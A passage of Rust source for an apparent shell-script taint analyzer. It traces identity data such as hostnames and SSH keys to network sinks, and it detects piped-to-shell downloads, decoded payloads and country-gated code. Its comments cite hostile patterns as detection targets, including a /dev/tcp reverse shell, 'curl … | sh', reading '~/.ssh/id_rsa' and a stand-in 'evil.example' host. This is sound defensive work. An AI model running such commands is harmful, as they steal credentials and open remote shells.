//! Taint analysis over the parsed script.
//!
//! Every command is evaluated once, in order, with an abstract value ([`Val`]) for its stdin
//! and one for each word ([`WordVal`]). A value carries the identity kinds it holds, the steps
//! that brought them there, whether its bytes came from the network (for `curl … | sh`),
//! whether they were decoded, and its text when that is known statically (so that
//! `echo aGk= | base64 -d | sh` and `a=https://x; curl $a` can be followed).
//!
//! Commands are interpreted from a small catalog: identity sources (`hostname`, `cat
//! ~/.ssh/id_rsa`), pass-through filters (`base64`, `tr`, …), network sinks (`curl`, `dig`,
//! `nc`, …) and interpreters (`node`, `sh`, `python`). Unknown commands produce nothing, which
//! keeps ordinary build scripts quiet.

use std::collections::{HashMap, HashSet};

use telltale_facts::{
    DataKind, DynamicCodeFact, Effect, EndpointFact, FlowFact, Kinds, RegionGuardFact, SinkKind,
    SourceFact, Span, Step,
};

use crate::parse::{
    assignment_prefix, Command, List, Next, Parser, Part, Pipeline, RedirOp, Simple, Word,
};
use crate::region::{self, RegionMatch};
use crate::tables::{
    classify_path, env_kind, host_of_name, interpreter_for_path, is_metadata_host, unescape_c,
    url_file_name, url_host, Interp, DYN,
};
use crate::{InlineCode, RunRef, ShellAnalysis};

/// Bytes of one script that are analysed; the rest is ignored.
pub(crate) const MAX_INPUT: usize = 512 * 1024;
/// Nesting of substitutions, subshells and parameter expansions in the top-level script.
const MAX_DEPTH: usize = 64;
/// Nesting allowed inside code that is itself re-analysed (`sh -c '…'`, `eval`, decoded text).
const NESTED_DEPTH: usize = 16;
/// How deep re-analysis may recurse (`sh -c "sh -c '…'"`).
const MAX_NEST: usize = 2;
/// How many re-analyses one script may trigger in all.
const MAX_NESTED_RUNS: usize = 32;
const MAX_STEPS: usize = 8;
const MAX_FACTS: usize = 4096;
const MAX_VARS: usize = 4096;
/// Longest statically known text a value keeps.
const MAX_TEXT: usize = 64 * 1024;

pub(crate) fn analyze(script: &[u8], base: u32) -> ShellAnalysis {
    run(script, Mapper::Offset(base), &[])
}

/// A command line built by another language's code: `inputs` are variables that hold data
/// from that code; every fact points at `span`.
pub(crate) fn analyze_command(
    script: &[u8],
    span: Span,
    inputs: &[(String, Kinds)],
) -> ShellAnalysis {
    run(script, Mapper::Fixed(span), inputs)
}

fn run(script: &[u8], map: Mapper, inputs: &[(String, Kinds)]) -> ShellAnalysis {
    let src = &script[..script.len().min(MAX_INPUT)];
    let mut parser = Parser::new(src, MAX_DEPTH);
    let list = parser.parse_program();
    let heredocs = std::mem::take(&mut parser.heredocs);
    let mut out = Out {
        nested_left: MAX_NESTED_RUNS,
        ..Default::default()
    };
    let mut an = Analyzer::new(src, &heredocs, map, &mut out, 0);
    for (name, kinds) in inputs {
        // Unknown text: only the data it carries is known.
        let val = Val {
            kinds: *kinds,
            ..Default::default()
        };
        an.set_var(
            name.clone(),
            VarVal {
                val,
                shape: Some(DYN.to_string()),
                path: Some(DYN.to_string()),
                path_kinds: Kinds::EMPTY,
            },
        );
    }
    let stdout = an.eval_list(&list, &Val::default());
    out.res.output = stdout.kinds;
    out.res.output_from = stdout.net;
    out.res
}

/// Turns offsets in the text being analysed into spans in the caller's file.
#[derive(Clone, Copy)]
enum Mapper {
    /// The text sits at this offset of the file.
    Offset(u32),
    /// The text is derived (decoded, unescaped): everything maps to this span.
    Fixed(Span),
}

impl Mapper {
    fn span(self, a: usize, b: usize) -> Span {
        match self {
            Mapper::Offset(base) => Span::new(
                base.saturating_add(a as u32),
                base.saturating_add(b.max(a) as u32),
            ),
            Mapper::Fixed(s) => s,
        }
    }

    fn shift(self, a: usize) -> Mapper {
        match self {
            Mapper::Offset(base) => Mapper::Offset(base.saturating_add(a as u32)),
            fixed => fixed,
        }
    }
}

/// An abstract value: what a word, a variable or a stream holds.
#[derive(Clone, Debug, Default)]
struct Val {
    kinds: Kinds,
    steps: Vec<Step>,
    /// The tool that fetched these bytes from the network.
    net: Option<String>,
    /// The decoding applied to these bytes (`base64`, `hex`, …).
    decoded: Option<&'static str>,
    /// The exact text, when known statically.
    text: Option<String>,
    /// Where `text` is written verbatim in the analysed source.
    at: Option<(usize, usize)>,
    /// Non-empty only for users in some countries (`curl ipinfo.io/country | grep RU`).
    region: Option<Box<RegionMatch>>,
}

impl Val {
    fn is_bare(&self) -> bool {
        self.kinds.is_empty()
            && self.steps.is_empty()
            && self.net.is_none()
            && self.decoded.is_none()
            && self.text.is_none()
            && self.region.is_none()
    }

    fn merge(&mut self, o: &Val) {
        if o.is_bare() {
            return;
        }
        if self.is_bare() {
            *self = o.clone();
            return;
        }
        self.kinds = self.kinds.union(o.kinds);
        add_steps(&mut self.steps, &o.steps);
        if self.net.is_none() {
            self.net.clone_from(&o.net);
        }
        if self.decoded.is_none() {
            self.decoded = o.decoded;
        }
        if self.region.is_none() {
            self.region.clone_from(&o.region);
        }
        self.text = None;
        self.at = None;
    }

    fn push_step(&mut self, s: Step) {
        add_steps(&mut self.steps, std::slice::from_ref(&s));
    }
}

fn add_steps(dst: &mut Vec<Step>, src: &[Step]) {
    for s in src {
        if dst.len() >= MAX_STEPS {
            break;
        }
        if !dst.iter().any(|d| d.span == s.span && d.what == s.what) {
            dst.push(s.clone());
        }
    }
}

/// One piece of a word: a literal or an expansion.
#[derive(Clone, Debug, Default)]
struct Seg {
    /// Static text, or [`DYN`] when unknown.
    text: String,
    /// The text for matching paths: `$HOME` reads `~`.
    path: String,
    /// As written in the script.
    display: String,
    lit: bool,
    quoted: bool,
    dynamic: bool,
    /// A process substitution `<(…)`.
    proc_subst: bool,
    val: Val,
    /// Sensitive files this piece may name (loop variables over `~/.ssh/*`).
    path_kinds: Kinds,
}

/// An evaluated word.
#[derive(Clone, Debug, Default)]
struct WordVal {
    segs: Vec<Seg>,
    start: usize,
    end: usize,
    /// Where the word's display text is written verbatim (inside its quotes, if any).
    exact: Option<(usize, usize)>,
    /// One unquoted literal: a reserved word can only be this.
    plain: bool,
}

impl WordVal {
    fn text(&self) -> String {
        self.segs.iter().map(|s| s.text.as_str()).collect()
    }

    fn path(&self) -> String {
        self.segs.iter().map(|s| s.path.as_str()).collect()
    }

    fn display(&self) -> String {
        self.segs.iter().map(|s| s.display.as_str()).collect()
    }

    fn is_static(&self) -> bool {
        !self.segs.iter().any(|s| s.dynamic)
    }

    fn static_text(&self) -> Option<String> {
        self.is_static().then(|| self.text())
    }

    /// Starts with static text (so a leading `-` really is an option).
    fn static_start(&self) -> bool {
        self.segs.first().is_some_and(|s| !s.dynamic)
    }

    fn val(&self) -> Val {
        let mut v = Val::default();
        for s in &self.segs {
            v.merge(&s.val);
        }
        v.text = self.static_text();
        v.at = None;
        v
    }

    fn path_kinds(&self) -> Kinds {
        self.segs
            .iter()
            .fold(Kinds::EMPTY, |k, s| k.union(s.path_kinds))
    }

    fn encodings(&self) -> Vec<String> {
        let mut e: Vec<String> = Vec::new();
        for s in &self.segs {
            if let Some(d) = s.val.decoded {
                if !e.iter().any(|x| x == d) {
                    e.push(d.to_string());
                }
            }
        }
        e
    }

    /// The word from byte `k` of its text on (`--data=VALUE`, `-dVALUE`).
    fn suffix(&self, k: usize) -> WordVal {
        let mut out = WordVal {
            start: self.start,
            end: self.end,
            ..Default::default()
        };
        let mut pos = 0;
        for s in &self.segs {
            let len = s.text.len();
            if pos + len <= k {
                pos += len;
                continue;
            }
            if pos >= k || !s.text.is_char_boundary(k - pos) {
                out.segs.push(s.clone());
            } else {
                let cut = k - pos;
                let mut n = s.clone();
                n.text = s.text[cut..].to_string();
                n.path = if s.path.len() == len && s.path.is_char_boundary(cut) {
                    s.path[cut..].to_string()
                } else {
                    n.text.clone()
                };
                if s.display.len() == len && s.display.is_char_boundary(cut) {
                    n.display = s.display[cut..].to_string();
                }
                out.segs.push(n);
            }
            pos += len;
        }
        out
    }
}

/// What a variable holds.
#[derive(Clone, Debug, Default)]
struct VarVal {
    val: Val,
    /// The value's text with [`DYN`] for unknown parts (`<DYN>.evil.example`).
    shape: Option<String>,
    path: Option<String>,
    path_kinds: Kinds,
}

/// Results and the budgets shared by nested analyses.
#[derive(Default)]
struct Out {
    res: ShellAnalysis,
    nested_left: usize,
    seen_sources: HashSet<(DataKind, Span, String)>,
    seen_endpoints: HashSet<(String, Span)>,
    seen_runs: HashSet<(String, Span)>,
    seen_inline: HashSet<Span>,
    seen_dynamic: HashSet<(String, Span)>,
    flow_index: HashMap<(Span, String), usize>,
}

struct Analyzer<'s, 'o> {
    src: &'s [u8],
    heredocs: &'s [Option<Word>],
    map: Mapper,
    out: &'o mut Out,
    vars: HashMap<String, VarVal>,
    /// Files written earlier in the script (`hostname > /tmp/h`, `curl -o x.sh`).
    files: HashMap<String, Val>,
    /// File descriptors opened on `/dev/tcp/host/port` by `exec`.
    sockets: HashMap<u32, Option<String>>,
    /// The directory relative to the package that `cd` moved to; `None` once unknown.
    cwd: Option<String>,
    nest: usize,
    /// The region comparison the last `[`/`test` command made.
    last_test: Option<RegionMatch>,
}

/// A command-line item after option scanning.
enum Item {
    Flag(String),
    Opt(String, WordVal),
    Pos(WordVal),
}

/// How a tool's options take arguments.
struct Spec {
    /// Short options that take an argument (`-d DATA`, `-dDATA`).
    short_arg: &'static str,
    /// Long options that take the next word as argument (`--data DATA`).
    long_arg: &'static [&'static str],
    /// Short options that swallow one more letter (wget's `-nv`).
    pair: &'static str,
}

const CURL: Spec = Spec {
    short_arg: "dFHuAebToDcXmxErYywKCzPQtU",
    long_arg: &[
        "--data",
        "--data-ascii",
        "--data-binary",
        "--data-raw",
        "--data-urlencode",
        "--json",
        "--url-query",
        "--form",
        "--form-string",
        "--header",
        "--proxy-header",
        "--user",
        "--user-agent",
        "--referer",
        "--cookie",
        "--cookie-jar",
        "--upload-file",
        "--url",
        "--output",
        "--output-dir",
        "--dump-header",
        "--request",
        "--max-time",
        "--connect-timeout",
        "--retry",
        "--retry-delay",
        "--retry-max-time",
        "--proxy",
        "--proxy-user",
        "--resolve",
        "--connect-to",
        "--cacert",
        "--capath",
        "--cert",
        "--cert-type",
        "--key",
        "--key-type",
        "--pass",
        "--interface",
        "--local-port",
        "--range",
        "--speed-limit",
        "--speed-time",
        "--limit-rate",
        "--max-filesize",
        "--max-redirs",
        "--write-out",
        "--config",
        "--continue-at",
        "--time-cond",
        "--dns-servers",
        "--ciphers",
        "--tls-max",
        "--proto",
        "--proto-redir",
        "--noproxy",
        "--oauth2-bearer",
        "--mail-from",
        "--mail-rcpt",
        "--mail-auth",
        "--request-target",
        "--aws-sigv4",
        "--trace",
        "--trace-ascii",
        "--stderr",
        "--unix-socket",
        "--abstract-unix-socket",
        "--socks4",
        "--socks5",
        "--socks5-hostname",
        "--preproxy",
        "--netrc-file",
        "--expect100-timeout",
        "--keepalive-time",
        "--quote",
        "--telnet-option",
        "--variable",
        "--etag-save",
        "--etag-compare",
        "--hostpubmd5",
        "--pubkey",
    ],
    pair: "",
};

const WGET: Spec = Spec {
    short_arg: "oOaiBetTwQPUlARDXI",
    long_arg: &[
        "--post-data",
        "--post-file",
        "--body-data",
        "--body-file",
        "--header",
        "--user",
        "--password",
        "--http-user",
        "--http-password",
        "--user-agent",
        "--referer",
        "--output-document",
        "--output-file",
        "--append-output",
        "--input-file",
        "--base",
        "--execute",
        "--tries",
        "--timeout",
        "--wait",
        "--quota",
        "--directory-prefix",
        "--level",
        "--accept",
        "--reject",
        "--domains",
        "--method",
        "--load-cookies",
        "--save-cookies",
        "--ca-certificate",
        "--certificate",
        "--private-key",
        "--bind-address",
        "--limit-rate",
        "--dns-timeout",
        "--connect-timeout",
        "--read-timeout",
        "--waitretry",
        "--proxy-user",
        "--proxy-password",
        "--default-page",
        "--exclude-directories",
        "--include-directories",
    ],
    pair: "n",
};

const NCAT_LONG: &[&str] = &[
    "--exec",
    "--sh-exec",
    "--lua-exec",
    "--proxy",
    "--proxy-type",
    "--proxy-auth",
    "--source",
    "--source-port",
    "--wait",
    "--idle-timeout",
    "--output",
    "--hex-dump",
    "--max-conns",
    "--allow",
    "--allowfile",
    "--deny",
    "--denyfile",
];

fn scan_opts(args: &[WordVal], spec: &Spec) -> Vec<Item> {
    let mut items = Vec::new();
    let mut k = 0;
    let mut only_pos = false;
    while k < args.len() {
        let a = &args[k];
        k += 1;
        let t = a.text();
        if only_pos || !a.static_start() || !t.starts_with('-') || t == "-" {
            items.push(Item::Pos(a.clone()));
            continue;
        }
        if t == "--" {
            only_pos = true;
            continue;
        }
        if let Some(long) = t.strip_prefix("--") {
            if let Some(eq) = long.find('=') {
                items.push(Item::Opt(
                    format!("--{}", &long[..eq]),
                    a.suffix(2 + eq + 1),
                ));
            } else if spec.long_arg.contains(&t.as_str()) && k < args.len() {
                items.push(Item::Opt(t.clone(), args[k].clone()));
                k += 1;
            } else {
                items.push(Item::Flag(t.clone()));
            }
            continue;
        }
        let mut chars = t.char_indices().skip(1);
        while let Some((idx, c)) = chars.next() {
            if c == DYN {
                break;
            }
            if spec.pair.contains(c) {
                chars.next();
                items.push(Item::Flag(format!("-{c}")));
                continue;
            }
            if spec.short_arg.contains(c) {
                let rest = idx + c.len_utf8();
                if rest < t.len() {
                    items.push(Item::Opt(format!("-{c}"), a.suffix(rest)));
                } else if k < args.len() {
                    items.push(Item::Opt(format!("-{c}"), args[k].clone()));
                    k += 1;
                } else {
                    items.push(Item::Flag(format!("-{c}")));
                }
                break;
            }
            items.push(Item::Flag(format!("-{c}")));
        }
    }
    items
}

fn is_dev_tcp(path: &str) -> bool {
    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
}

/// Where a file name is looked up in the map of files written by the script.
fn file_key(path: &str) -> String {
    let mut p = path.trim();
    while let Some(rest) = p.strip_prefix("./") {
        p = rest;
    }
    p.to_string()
}

fn decoder_cmd(technique: &str) -> &str {
    match technique {
        "base64" => "base64 -d",
        "hex" => "xxd -r",
        "reverse" => "rev",
        "gzip" => "gunzip",
        other => other,
    }
}

fn b64_decode(t: &str) -> Option<String> {
    use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE_NO_PAD};
    use base64::Engine;
    let cleaned: String = t.chars().filter(|c| !c.is_whitespace()).collect();
    let bytes = STANDARD
        .decode(&cleaned)
        .or_else(|_| STANDARD_NO_PAD.decode(cleaned.trim_end_matches('=')))
        .or_else(|_| URL_SAFE_NO_PAD.decode(cleaned.trim_end_matches('=')))
        .ok()?;
    String::from_utf8(bytes).ok()
}

fn hex_decode(t: &str) -> Option<String> {
    let digits: Vec<u8> = t.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
    if !digits.len().is_multiple_of(2) {
        return None;
    }
    let mut out = Vec::with_capacity(digits.len() / 2);
    for pair in digits.chunks(2) {
        let s = std::str::from_utf8(pair).ok()?;
        out.push(u8::from_str_radix(s, 16).ok()?);
    }
    String::from_utf8(out).ok()
}

fn cap_text(t: String) -> Option<String> {
    (t.len() <= MAX_TEXT).then_some(t)
}

/// `NAME=` length when the word is an assignment (an unquoted `NAME=` prefix).
fn assign_len(w: &WordVal) -> Option<usize> {
    let first = w.segs.first()?;
    if !first.lit || first.quoted {
        return None;
    }
    assignment_prefix(first.text.as_bytes())
}

/// `[user@]host:path` or `scp://…`: the remote side of scp/rsync, with its host if valid.
fn remote_spec(t: &str) -> Option<Option<String>> {
    if ["rsync://", "scp://", "sftp://", "ssh://"]
        .iter()
        .any(|p| t.starts_with(p))
    {
        return Some(url_host(t));
    }
    let c = t.find(':')?;
    let before = &t[..c];
    if before.is_empty() || before.contains('/') || before.starts_with(['.', '~', '-']) {
        return None;
    }
    Some(host_of_name(before.rsplit('@').next().unwrap_or(before)))
}

/// The command's option words as plain strings (for flag checks).
fn flags(args: &[WordVal]) -> Vec<String> {
    args.iter()
        .filter(|a| a.static_start())
        .map(|a| a.text())
        .filter(|t| t.starts_with('-') && t.len() > 1)
        .collect()
}

/// A short flag letter (alone or in a cluster) or a long spelling is present.
fn has_flag(args: &[WordVal], letter: char, long: &str) -> bool {
    flags(args)
        .iter()
        .any(|f| f == long || (!f.starts_with("--") && f[1..].contains(letter)))
}

impl<'s, 'o> Analyzer<'s, 'o> {
    fn new(
        src: &'s [u8],
        heredocs: &'s [Option<Word>],
        map: Mapper,
        out: &'o mut Out,
        nest: usize,
    ) -> Self {
        Analyzer {
            src,
            heredocs,
            map,
            out,
            vars: HashMap::new(),
            files: HashMap::new(),
            sockets: HashMap::new(),
            cwd: Some(String::new()),
            nest,
            last_test: None,
        }
    }

    // ---- facts -------------------------------------------------------------------------

    fn slice(&self, a: usize, b: usize) -> String {
        let b = b.min(self.src.len());
        String::from_utf8_lossy(&self.src[a.min(b)..b]).into_owned()
    }

    /// The source text between two offsets, whitespace collapsed, cut to a readable length.
    fn snippet(&self, a: usize, b: usize) -> String {
        let b = b.min(self.src.len()).min(a.saturating_add(400));
        let raw = self.slice(a, b);
        let mut s = String::new();
        let mut ws = false;
        for ch in raw.chars() {
            if ch.is_whitespace() {
                ws = !s.is_empty();
                continue;
            }
            if ws {
                s.push(' ');
                ws = false;
            }
            s.push(ch);
            if s.len() >= 100 {
                s.push('…');
                break;
            }
        }
        s
    }

    fn step(&self, a: usize, b: usize) -> Step {
        Step {
            span: self.map.span(a, b),
            what: self.snippet(a, b),
        }
    }

    fn add_source(&mut self, kind: DataKind, api: &str, a: usize, b: usize) {
        let span = self.map.span(a, b);
        let out = &mut *self.out;
        if out.res.sources.len() < MAX_FACTS
            && out.seen_sources.insert((kind, span, api.to_string()))
        {
            out.res.sources.push(SourceFact {
                kind,
                api: api.to_string(),
                span,
            });
        }
    }

    fn add_endpoint(
        &mut self,
        host: &str,
        url: Option<String>,
        w: (usize, usize),
        encodings: Vec<String>,
    ) {
        let span = self.map.span(w.0, w.1);
        let out = &mut *self.out;
        if out.res.endpoints.len() < MAX_FACTS
            && out.seen_endpoints.insert((host.to_string(), span))
        {
            // Shell words are not located back to a literal: no provenance.
            out.res.endpoints.push(EndpointFact {
                host: host.to_string(),
                url,
                span,
                encodings,
                provenance: String::new(),
                origin: None,
                in_text: false,
            });
        }
    }

    fn add_run(&mut self, interpreter: &str, path: String, a: usize, b: usize) {
        if path.is_empty() || path == "-" {
            return;
        }
        let span = self.map.span(a, b);
        let out = &mut *self.out;
        if out.res.runs.len() < MAX_FACTS && out.seen_runs.insert((path.clone(), span)) {
            out.res.runs.push(RunRef {
                interpreter: interpreter.to_string(),
                path,
                span,
            });
        }
    }

    fn add_inline(&mut self, interpreter: &str, code: String, span: Span) {
        let out = &mut *self.out;
        if out.res.inline_code.len() < MAX_FACTS && out.seen_inline.insert(span) {
            out.res.inline_code.push(InlineCode {
                interpreter: interpreter.to_string(),
                code,
                span,
            });
        }
    }

    fn add_dynamic(&mut self, api: String, from_network: bool, via: &Val, a: usize, b: usize) {
        let span = self.map.span(a, b);
        let mut steps: Vec<Step> = via.steps.iter().take(MAX_STEPS - 1).cloned().collect();
        steps.push(self.step(a, b));
        let out = &mut *self.out;
        if out.res.dynamic_code.len() < MAX_FACTS && out.seen_dynamic.insert((api.clone(), span)) {
            out.res.dynamic_code.push(DynamicCodeFact {
                api,
                from_network,
                span,
                steps,
            });
        }
    }

    /// Reports `sent` reaching a sink, if it holds identity or region data.
    fn add_flow(
        &mut self,
        tool: &str,
        sink: SinkKind,
        span: (usize, usize),
        sent: &Val,
        hosts: Vec<String>,
    ) {
        let kinds = Kinds(sent.kinds.identity().0 | sent.kinds.region().0);
        if kinds.is_empty() {
            return;
        }
        let mut steps: Vec<Step> = sent.steps.iter().take(MAX_STEPS - 1).cloned().collect();
        steps.push(self.step(span.0, span.1));
        let mut endpoints: Vec<String> = Vec::new();
        for h in hosts {
            if !endpoints.contains(&h) {
                endpoints.push(h);
            }
        }
        let sp = self.map.span(span.0, span.1);
        let out = &mut *self.out;
        if let Some(&i) = out.flow_index.get(&(sp, tool.to_string())) {
            let f = &mut out.res.flows[i];
            f.kinds = f.kinds.union(kinds);
            return;
        }
        if out.res.flows.len() < MAX_FACTS {
            out.flow_index
                .insert((sp, tool.to_string()), out.res.flows.len());
            out.res.flows.push(FlowFact {
                kinds,
                sink,
                sink_api: tool.to_string(),
                span: sp,
                endpoints,
                steps,
                gated_by: vec![],
                sent_before_check: false,
                to_telemetry: false,
            });
        }
    }

    // ---- structure ---------------------------------------------------------------------

    fn eval_list(&mut self, l: &List, stdin: &Val) -> Val {
        let mut out = Val::default();
        for (k, p) in l.items.iter().enumerate() {
            self.last_test = None;
            let o = self.eval_pipeline(p, stdin);
            let first = region::first_word(p);
            let is_if = matches!(first.as_deref(), Some("if" | "elif"));
            let test = self.last_test.take().or_else(|| {
                // `if curl … | grep -q RU; then`: the pipeline's status is the match.
                (is_if || p.next != Next::Seq)
                    .then(|| o.region.as_deref().cloned())
                    .flatten()
            });
            if let Some(t) = test {
                self.region_guard(t, &l.items, k, is_if);
            }
            out.merge(&o);
        }
        out
    }

    /// Records the code that a region test at `items[k]` controls.
    fn region_guard(&mut self, t: RegionMatch, items: &[Pipeline], k: usize, is_if: bool) {
        let (then_part, else_part): (&[Pipeline], &[Pipeline]) = if is_if {
            // `if T; then A; else B; fi`: items after the test, to the matching else/elif/fi.
            let (mut depth, mut mid, mut end) = (0usize, None, items.len());
            for (i, p) in items.iter().enumerate().skip(k + 1) {
                match region::first_word(p).as_deref() {
                    Some("if") => depth += 1,
                    Some("fi") if depth == 0 => {
                        end = i;
                        break;
                    }
                    Some("fi") => depth -= 1,
                    Some("else" | "elif") if depth == 0 && mid.is_none() => mid = Some(i),
                    _ => {}
                }
            }
            let mid = mid.unwrap_or(end);
            (&items[(k + 1).min(mid)..mid], &items[mid..end])
        } else {
            // `T && A` runs A when T holds; `T || A` when it does not.
            let next = items.get(k + 1..k + 2).unwrap_or(&[]);
            match items[k].next {
                Next::And => (next, &[][..]),
                Next::Or => (&[][..], next),
                Next::Seq => return,
            }
        };
        let (here, elsewhere) = if t.positive {
            (then_part, else_part)
        } else {
            (else_part, then_part)
        };
        let (guarded, outside) = if here.is_empty() {
            (elsewhere, true)
        } else {
            (here, false)
        };
        let Some(span_of) = guarded
            .first()
            .zip(guarded.last())
            .and_then(|(a, b)| Some((pipeline_start(a)?, pipeline_end(b)?)))
        else {
            return;
        };
        let (mut effects, names) = region::effects(guarded);
        if !outside && !elsewhere.is_empty() {
            let (alt, _) = region::effects(elsewhere);
            if effects == [Effect::Message] && alt.contains(&Effect::Message) {
                effects = vec![Effect::Localized];
            }
        }
        if outside && effects.iter().all(|e| *e == Effect::Message) {
            return;
        }
        let test_at = pipeline_start(&items[k])
            .zip(pipeline_end(&items[k]))
            .unwrap_or(span_of);
        let mut steps = t.steps.clone();
        steps.push(self.step(test_at.0, test_at.1));
        self.out.res.region_guards.push(RegionGuardFact {
            source: t.kinds,
            source_api: t.subject,
            constants: t.constants,
            countries: t.countries,
            effects,
            effect_apis: names,
            span: self.map.span(test_at.0, test_at.1),
            guarded: self.map.span(span_of.0, span_of.1),
            outside,
            detector: None,
            steps,
        });
    }

    fn eval_pipeline(&mut self, p: &Pipeline, stdin: &Val) -> Val {
        let mut cur = stdin.clone();
        for c in &p.cmds {
            cur = self.eval_command(c, &cur);
        }
        cur
    }

    fn eval_command(&mut self, c: &Command, stdin: &Val) -> Val {
        match c {
            Command::Simple(s) => self.eval_simple(s, stdin),
            Command::Group { list, after } => {
                let rts = self.redirect_targets(after);
                let input = self.apply_input(after, &rts, stdin);
                let out = self.eval_list(list, &input);
                self.apply_output(after, &rts, &out, false, (after.start, after.end));
                out
            }
        }
    }

    fn redirect_targets(&mut self, s: &Simple) -> Vec<WordVal> {
        let docs: &'s [Option<Word>] = self.heredocs;
        s.redirs
            .iter()
            .map(|r| match r.op {
                RedirOp::HereDoc(id) => match docs.get(id).and_then(|d| d.as_ref()) {
                    Some(body) => self.eval_word(body),
                    None => WordVal::default(),
                },
                _ => self.eval_word(&r.target),
            })
            .collect()
    }

    fn apply_input(&mut self, s: &Simple, rts: &[WordVal], stdin: &Val) -> Val {
        let mut input = stdin.clone();
        // `bash -i >& /dev/tcp/h/p 0>&1`: stdin is the socket too (a reverse shell).
        let tcp_out = s.redirs.iter().zip(rts).any(|(r, t)| {
            matches!(r.op, RedirOp::Out | RedirOp::DupOut)
                && r.fd.is_none_or(|fd| fd == 1 || fd == 2)
                && is_dev_tcp(&t.text())
        });
        let stdin_dup = s
            .redirs
            .iter()
            .any(|r| r.fd == Some(0) && matches!(r.op, RedirOp::DupOut | RedirOp::DupIn));
        if tcp_out && stdin_dup {
            input = self.net_val("/dev/tcp", (s.start, s.end), None);
        }
        for (r, t) in s.redirs.iter().zip(rts) {
            if r.fd.is_some_and(|fd| fd != 0) {
                continue;
            }
            match r.op {
                RedirOp::In => input = self.read_file(t, t.start, t.end),
                RedirOp::HereString => input = t.val(),
                RedirOp::HereDoc(_) => {
                    let mut v = t.val();
                    v.text = cap_text(t.display());
                    v.at = t.exact;
                    input = v;
                }
                RedirOp::DupIn
                    if t.text()
                        .parse::<u32>()
                        .ok()
                        .is_some_and(|fd| self.sockets.contains_key(&fd)) =>
                {
                    input = self.net_val("/dev/tcp", (s.start, s.end), None);
                }
                _ => {}
            }
        }
        input
    }

    fn apply_output(
        &mut self,
        s: &Simple,
        rts: &[WordVal],
        out: &Val,
        bare_exec: bool,
        span: (usize, usize),
    ) {
        for (r, t) in s.redirs.iter().zip(rts) {
            if !matches!(r.op, RedirOp::Out | RedirOp::DupOut | RedirOp::ReadWrite) {
                continue;
            }
            let fd =
                r.fd.unwrap_or(if r.op == RedirOp::ReadWrite { 0 } else { 1 });
            let text = t.text();
            let dev = text
                .strip_prefix("/dev/tcp/")
                .or_else(|| text.strip_prefix("/dev/udp/"));
            if let Some(rest) = dev {
                let host = host_of_name(rest.split('/').next().unwrap_or(""));
                if let Some(h) = &host {
                    self.add_endpoint(h, None, (t.start, t.end), t.encodings());
                }
                if bare_exec && fd >= 3 {
                    self.sockets.insert(fd, host);
                } else if fd == 1 || fd == 2 {
                    self.add_flow(
                        "/dev/tcp",
                        SinkKind::Socket,
                        span,
                        out,
                        host.into_iter().collect(),
                    );
                }
            } else if r.op == RedirOp::DupOut {
                if let Some(host) = text
                    .parse::<u32>()
                    .ok()
                    .and_then(|n| self.sockets.get(&n).cloned())
                {
                    self.add_flow(
                        "/dev/tcp",
                        SinkKind::Socket,
                        span,
                        out,
                        host.into_iter().collect(),
                    );
                }
            } else if r.op == RedirOp::Out
                && fd == 1
                && t.is_static()
                && !text.is_empty()
                && text != "/dev/null"
                && !out.is_bare()
            {
                self.files.insert(file_key(&text), out.clone());
            }
        }
    }

    fn eval_simple(&mut self, s: &Simple, stdin: &Val) -> Val {
        let span = (s.start, s.end);
        let ws: Vec<WordVal> = s.words.iter().map(|w| self.eval_word(w)).collect();
        let rts = self.redirect_targets(s);
        let input = self.apply_input(s, &rts, stdin);

        let mut i = 0;
        while i < ws.len() && assign_len(&ws[i]).is_some() {
            i += 1;
        }
        if i == ws.len() {
            for w in &ws {
                self.assign_word(w);
            }
            self.apply_output(s, &rts, &Val::default(), true, span);
            return Val::default();
        }

        // Wrappers that run the command named after them.
        let mut j = i;
        let mut xargs: Option<Option<String>> = None;
        let mut is_exec = false;
        while let Some(name) = ws.get(j).and_then(|w| w.static_text()) {
            let base = name.rsplit('/').next().unwrap_or(&name).to_string();
            match base.as_str() {
                "if" | "then" | "else" | "elif" | "do" | "while" | "until" | "!" | "{" | "}"
                | "time" | "fi" | "done" | "esac" | "coproc"
                    if ws[j].plain =>
                {
                    j += 1
                }
                "nohup" | "command" | "builtin" | "setsid" | "torsocks" | "proxychains"
                | "proxychains4" | "unbuffer" | "doas" | "caffeinate" | "chronic" => {
                    j += 1;
                    while let Some(t) = ws.get(j).and_then(|w| w.static_text()) {
                        if !t.starts_with('-') {
                            break;
                        }
                        if base == "command" && (t == "-v" || t == "-V") {
                            // `command -v x` looks x up; it does not run it.
                            return Val::default();
                        }
                        j += 1;
                    }
                }
                "exec" => {
                    is_exec = true;
                    j += 1;
                    skip_opts(&ws, &mut j, "a");
                }
                "sudo" => {
                    j += 1;
                    skip_opts(&ws, &mut j, "ugpChUrtDR");
                }
                "nice" => {
                    j += 1;
                    skip_opts(&ws, &mut j, "n");
                }
                "timeout" => {
                    j += 1;
                    skip_opts(&ws, &mut j, "sk");
                    if j < ws.len() {
                        j += 1;
                    }
                }
                "stdbuf" => {
                    j += 1;
                    skip_opts(&ws, &mut j, "ioe");
                }
                "env" => {
                    let at = j;
                    j += 1;
                    while let Some(w) = ws.get(j) {
                        let t = w.text();
                        if matches!(
                            t.as_str(),
                            "-" | "-i" | "-0" | "--ignore-environment" | "--null"
                        ) || t.starts_with("--") && t.contains('=')
                        {
                            j += 1;
                        } else if matches!(t.as_str(), "-u" | "-C" | "--unset" | "--chdir") {
                            j += 2;
                        } else if assign_len(w).is_some() {
                            j += 1;
                        } else {
                            break;
                        }
                    }
                    if j >= ws.len() {
                        // `env` alone prints the whole environment.
                        j = at;
                        break;
                    }
                }
                "cross-env" | "cross-env-shell" => {
                    j += 1;
                    while ws.get(j).is_some_and(|w| assign_len(w).is_some()) {
                        j += 1;
                    }
                }
                "xargs" => {
                    j += 1;
                    let mut repl = None;
                    while let Some(t) = ws.get(j).filter(|w| w.static_start()).map(|w| w.text()) {
                        if !t.starts_with('-') {
                            break;
                        }
                        if t == "-I" {
                            repl = ws.get(j + 1).map(|w| w.text());
                            j += 2;
                        } else if let Some(r) = t.strip_prefix("-I") {
                            repl = Some(r.to_string());
                            j += 1;
                        } else if t == "-i" {
                            repl = Some("{}".to_string());
                            j += 1;
                        } else if let Some(r) = t.strip_prefix("--replace=") {
                            repl = Some(r.to_string());
                            j += 1;
                        } else if matches!(
                            t.as_str(),
